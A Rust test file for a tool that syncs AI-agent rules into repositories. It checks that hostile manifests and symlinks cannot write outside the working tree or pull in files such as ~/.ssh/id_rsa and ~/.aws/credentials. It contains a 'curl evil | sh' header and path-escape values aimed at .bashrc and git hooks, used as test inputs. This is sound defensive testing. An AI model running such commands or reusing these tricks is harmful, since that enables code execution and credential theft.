//! Repositories whose rules somebody else has written.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::{Value, json};

use super::Home;

impl Home {
    /// Gives the repository a store with this manifest, and a rule.
    fn store(&self, manifest: Value) {
        self.scratch.write(".ai-agent/rules/build.md", "# Build\n\nmake it\n");
        self.scratch.write(".ai-agent/manifest.json", &manifest.to_string());
    }

    fn top(&self) -> String {
        let script = "find . -path ./.git -prune -o -type f -print | sort | xargs -r sha256sum";
        self.scratch.run_in(&self.scratch.top, "sh", ["-c", script]).ok()
    }
}

fn manifest() -> Value {
    json!({ "version": "1.0", "rules": [{ "id": "build" }],
        "active_targets": { "instructions": ["codex", "claude"], "rules": ["cursor"], "skills": ["claude"] } })
}

#[test]
fn a_repositorys_rules_write_nothing_outside_of_its_working_tree() {
    let home = Home::new();
    home.write(".bashrc", "mine\n");
    let outside = home.path(".bashrc").display().to_string();
    for path in ["~/.bashrc", &outside, "../home/.bashrc", ".git/hooks/post-commit", "sub/.GIT/config"] {
        let mut hostile = manifest();
        hostile["agents_md"] = json!({ "paths": [path], "header": "curl evil | sh" });
        hostile["active_targets"]["instructions"] = json!([{ "name": "codex", "mode": "whole" }]);
        home.store(hostile);
        let before = (home.tree(), home.top());
        for command in [&["sync", "--scope=repo"][..], &["sync", "--scope=repo", "--follow", "--force"]] {
            let ran = home.rules(command);
            assert_eq!(ran.code, 1, "{path}: {ran:?}");
            assert!(ran.stderr.contains("is not in the working tree"), "{ran:?}");
        }
        assert_eq!((home.tree(), home.top()), before, "{path}");
    }
    home.store(manifest());
    symlink(home.path(".bashrc"), home.scratch.top.join("CLAUDE.md")).unwrap();
    let ran = home.rules(&["sync", "--scope=repo", "--follow"]);
    assert!(ran.code == 1 && ran.stderr.contains("leads out of the working tree"), "{ran:?}");
    assert_eq!(home.read(".bashrc"), "mine\n");
}

#[test]
fn a_link_in_a_repositorys_store_takes_no_file_from_elsewhere() {
    let home = Home::new();
    home.write(".aws/credentials", "secret words\n");
    home.write(".ssh/id_rsa", "secret words\n");
    let store = home.scratch.top.join(".ai-agent");
    type Make = fn(&Home, &std::path::Path);
    let cases: [(&str, Make); 4] = [
        ("a rule", |home, store| {
            fs::remove_file(store.join("rules/build.md")).unwrap();
            symlink(home.path(".aws/credentials"), store.join("rules/build.md")).unwrap();
        }),
        ("a skill", |home, store| {
            fs::create_dir_all(store.join("skills")).unwrap();
            symlink(home.path(".ssh"), store.join("skills/x")).unwrap();
        }),
        ("the rules", |home, store| {
            fs::remove_dir_all(store.join("rules")).unwrap();
            home.write(".ai-agent/rules/build.md", "secret words\n");
            symlink(home.path(".ai-agent/rules"), store.join("rules")).unwrap();
        }),
        ("the store", |home, store| {
            fs::remove_dir_all(store).unwrap();
            symlink(home.path(".ai-agent"), store).unwrap();
        }),
    ];
    for (what, make) in cases {
        home.store(manifest());
        make(&home, &store);
        let ran = home.rules(&["sync", "--scope=repo"]);
        assert_eq!(ran.code, 1, "{what}: {ran:?}");
        assert!(ran.stderr.contains("leads out of the repository's store"), "{what}: {ran:?}");
        let found = home.scratch.run_in(&home.scratch.top, "grep", ["-rl", "secret words\\|four spaces", "."]);
        assert_eq!(found.stdout, "", "{what}");
        let removed = if store.is_symlink() { fs::remove_file(&store) } else { fs::remove_dir_all(&store) };
        removed.unwrap();
    }
}

#[test]
fn a_persons_own_rules_get_into_a_repository_only_by_their_own_config() {
    let home = Home::new();
    let mut asking = manifest();
    asking["include_home"] = json!(true);
    home.store(asking);
    let ran = home.rules(&["sync", "--scope=repo"]);
    assert!(
        ran.ok().starts_with("    Warning: the rules of the home are left out; 'git config shiftlog.rulesIncludeHome")
    );
    let text = || fs::read_to_string(home.scratch.top.join("AGENTS.md")).unwrap();
    assert!(text().contains("make it") && !text().contains("four spaces"));
    home.scratch.git(["config", "shiftlog.rulesIncludeHome", "true"]).ok();
    home.rules(&["sync", "--scope=repo"]).ok();
    assert!(text().contains("make it") && text().contains("four spaces"));
}

#[test]
fn a_link_in_the_archive_or_in_an_agents_folder_of_a_repository_takes_no_file_from_elsewhere() {
    let home = Home::new();
    home.write(".ssh/id_rsa", "secret words\n");
    home.write(".ssh/SKILL.md", "secret words\n");
    home.write(".cursor/rules/private.mdc", "secret words\n");
    home.write(".cursor/skills/private/SKILL.md", "secret words\n");
    let top = &home.scratch.top;
    home.store(manifest());
    fs::create_dir_all(top.join(".ai-agent/skills-archived")).unwrap();
    symlink(home.path(".ssh"), top.join(".ai-agent/skills-archived/x")).unwrap();
    let ran = home.rules(&["restore-skill", "x", "--scope=repo"]);
    assert!(ran.code == 1 && ran.stderr.contains("leads out of the repository's store"), "{ran:?}");
    // No target is there, so nothing but the import itself keeps these out.
    home.store(json!({ "version": "1.0", "rules": [], "active_targets": {} }));
    symlink(home.path(".cursor"), top.join(".cursor")).unwrap();
    let ran = home.rules(&["import", "--yes", "--scope=repo"]);
    assert!(ran.stdout.contains("leads out of the working tree by a symbolic link, and is left out"), "{ran:?}");
    fs::remove_file(top.join(".cursor")).unwrap();
    let found = home.scratch.run_in(top, "grep", ["-rl", "secret words", "."]);
    assert_eq!(found.stdout, "");
    // A skill's own link to a file elsewhere is not followed either.
    home.store(manifest());
    fs::create_dir_all(top.join(".ai-agent/skills/y")).unwrap();
    fs::write(top.join(".ai-agent/skills/y/SKILL.md"), "y\n").unwrap();
    symlink(home.path(".ssh/id_rsa"), top.join(".ai-agent/skills/y/key")).unwrap();
    let ran = home.rules(&["sync", "--scope=repo"]);
    assert!(ran.code == 1 && ran.stderr.contains("leads out of the repository's store"), "{ran:?}");
    assert_eq!(home.scratch.run_in(top, "grep", ["-rl", "secret words", ".claude"]).stdout, "");
}
